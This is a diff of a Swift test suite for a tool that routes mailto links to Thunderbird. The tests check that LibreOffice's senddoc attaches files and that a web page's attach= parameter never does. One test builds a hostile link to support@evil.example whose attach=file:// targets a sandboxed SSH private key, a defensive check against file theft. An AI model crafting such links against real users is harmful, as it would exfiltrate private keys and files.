@@ -4,8 +4,8 @@ import TestSupport
 
 /// Files a local program attaches, the ways they really come: Debian's real
 /// `/usr/bin/xdg-email --attach` (xdg-utils 1.1.3), which runs `xdg-email-hook.sh` first
-/// in PATH, and LibreOffice's senddoc, which runs xdg-email; against a web page's
-/// `attach=`, which a click brings through `open` and which never attaches a file.
+/// in PATH, and LibreOffice's real senddoc, which runs xdg-email; against a web page's
+/// `attach=`, which never attaches a file, whichever way it comes.
 /// Judged by what a recording Thunderbird received on its command line, read the way
 /// Thunderbird reads it (Resources/thunderbird_compose.py).
 @Suite struct LocalProgramTests {
@@ -75,23 +75,44 @@ import TestSupport
         #expect(result.stdout.hasPrefix("handed off to Thunderbird (thunderbird.desktop)"), "\(result)")
     }
 
-    /// LibreOffice's "Send document as e-mail" with E-mail program `/usr/bin/xdg-email`
-    /// (or none): senddoc's `xdg` branch runs `xdg-email "mailto:?subject=…&attach=…"`
-    /// with `file://` and the path escaped once by its uri-encode (which keeps
-    /// `!$'()*+,-.:=@_~/`), so a space is `%20` and a `%` in the name `%25` (Debian's
-    /// libreoffice-common 7.4.7, /usr/lib/libreoffice/program/senddoc). The document
-    /// arrives as it is named.
+    /// LibreOffice's "Send document as e-mail", the real thing: Debian's own senddoc
+    /// (libreoffice-core 7.4, /usr/lib/libreoffice/program/senddoc) as LibreOffice runs it,
+    /// `--mailclient sensible-lomua`, which runs `xdg-email "mailto:…&attach=file://…"` in
+    /// the background and exits. Started in LibreOffice's app scope, as the desktop starts
+    /// LibreOffice, the document arrives, named as it is (its uri-encode keeps a space and
+    /// escapes a `%` once).
     @Test func libreOfficeSendDocumentReachesTheMailProgram() throws {
         let (sandbox, _) = try sandbox()
         let document = try sandbox.write("odt", to: "lu1234.tmp/Budget 100%, final.odt").path
-        let uriEncoded = "file://" + document
-            .replacingOccurrences(of: "%", with: "%25").replacingOccurrences(of: " ", with: "%20")
-        let result = try xdgEmail(["mailto:?subject=Budget%20100%25%2C%20final.odt&attach=\(uriEncoded)"], in: sandbox)
+        let scope = try AppScope(unit: #"app-gnome-libreoffice\x2dwriter-\#(getpid()).scope"#)
+        let result = try senddoc(["--to", "ann@example.org", "--subject", "Budget 100%, final.odt", "--attach", document],
+                                 in: sandbox, scope: scope)
         #expect(result.status == 0, "\(result)")
         let argv = try #require(sandbox.recordedArgv("thunderbird"))
         let compose = try ThunderbirdCompose(reading: argv.last ?? "")
         #expect(compose.attachments == [document], "\(argv)")
         #expect(compose.fields["subject"] == "Budget 100%, final.odt")
+        #expect(compose.fields["to"] == "ann@example.org")
+    }
+
+    /// The same senddoc started outside LibreOffice's scope (by a test, a script, or
+    /// anything that leaves no trace once it has exited): nothing proves who asked, so the
+    /// file stays behind, and the report names it (fail closed).
+    @Test func senddocWithNoLibreOfficeBehindItAttachesNothing() throws {
+        let (sandbox, _) = try sandbox()
+        let document = try sandbox.write("odt", to: "lu1234.tmp/report.odt").path
+        let result = try senddoc(["--to", "ann@example.org", "--attach", document], in: sandbox, scope: nil)
+        #expect(result.status == 0, "\(result)")
+        let argv = try #require(sandbox.recordedArgv("thunderbird"))
+        #expect(!argv.joined().contains("report.odt"), "\(argv)")
+        #expect(result.stderr.contains("warning: not attached: \(document) (the link asked for it"), "\(result)")
+    }
+
+    /// Runs Debian's senddoc (in `scope` when given) with the sandbox's PATH, where
+    /// xdg-email finds the hook; waits for the background xdg-email too (its output).
+    func senddoc(_ arguments: [String], in sandbox: Sandbox, scope: AppScope?) throws -> RunResult {
+        let command = ["/usr/lib/libreoffice/program/senddoc", "--mailclient", "sensible-lomua"] + arguments
+        return try run("/usr/bin/setsid", ["-w"] + (scope?.wrap(command) ?? command), environment: sandbox.environment(), timeout: 30)
     }
 
     /// A file: URI escaped as a URI should be, inside the URL (escaped twice), is read
@@ -107,14 +128,48 @@ import TestSupport
         #expect(compose.attachments == [files[1]])
     }
 
-    /// A web page's link comes through the desktop file's `open %u`: its attach= is
-    /// named, never attached, and the mail program gets no file.
-    @Test func webPageAttachThroughOpenAttachesNothing() throws {
-        let (sandbox, files) = try sandbox()
-        let result = try routeWithoutTerminal(["open", "mailto:joe@example.org?attach=\(files[0])"], in: sandbox)
+    /// Rule 8 on every way a link reaches mailto-route: a web page's `attach=` naming a
+    /// secret is named in the report and the log, and the mail program gets no file:
+    /// through GIO's launch of the desktop file (`open %u`) by `gio open` and `xdg-open`;
+    /// `xdg-email URL` with its hook (run by another program than LibreOffice) and without
+    /// it (xdg-email then launches the desktop file itself); and `open` run directly.
+    @Test(arguments: ["gio open", "xdg-open", "xdg-email with the hook", "xdg-email without the hook", "open"])
+    func webPageAttachAttachesNothingOnEveryPath(path: String) throws {
+        let (sandbox, _) = try sandbox()
+        let secret = try sandbox.write("-----BEGIN OPENSSH PRIVATE KEY-----\n", to: "home/.ssh/id_rsa").path
+        let url = "mailto:support@evil.example?subject=Support&attach=file://\(secret)"
+        if path == "xdg-email without the hook" {
+            try FileManager.default.removeItem(at: sandbox.binDirectory.appendingPathComponent("xdg-email-hook.sh"))
+        }
+        // xdg-utils look for a desktop file only on a desktop (DISPLAY set); there is no
+        // account, so nothing opens a window on it.
+        let desktop = ["DISPLAY": ":99"]
+        let result: RunResult
+        switch path {
+        case "gio open": result = try run("/usr/bin/gio", ["open", url], environment: sandbox.environment(), timeout: 30)
+        case "xdg-open": result = try run("/usr/bin/xdg-open", [url], environment: sandbox.environment(desktop), timeout: 30)
+        case "open": result = try routeWithoutTerminal(["open", url], in: sandbox)
+        default: result = try xdgEmail([url], in: sandbox, desktop)
+        }
         #expect(result.status == 0, "\(result)")
-        #expect(result.stderr.contains("not taken from the URL: 'attach'"), "\(result)")
-        #expect(sandbox.recordedArgv("thunderbird") == ["mailto:joe@example.org"])
+        let argv = try #require(sandbox.recordedArgv("thunderbird", timeout: 20), "\(result)")
+        #expect(argv == ["mailto:support@evil.example?subject=Support"], "\(argv)")
+        // The outcome log says what was not attached, whoever printed the report.
+        let log = try #require(waitForLogLine(in: sandbox))
+        #expect(log.contains("not attached: \(secret)"), "\(log)")
+    }
+
+    /// The last line of the outcome log, once there is one (a launch through GIO returns
+    /// before mailto-route has run).
+    func waitForLogLine(in sandbox: Sandbox) -> String? {
+        let log = sandbox.stateHome.appendingPathComponent("mailto-route/outcomes.log")
+        for _ in 0..<2000 {
+            if let text = sandbox.contents(log), text.hasSuffix("\n") {
+                return text.split(separator: "\n").last.map(String.init)
+            }
+            usleep(10_000)
+        }
+        return nil
     }
 
     /// Rule 2: a file the local program named that cannot be attached is an error that
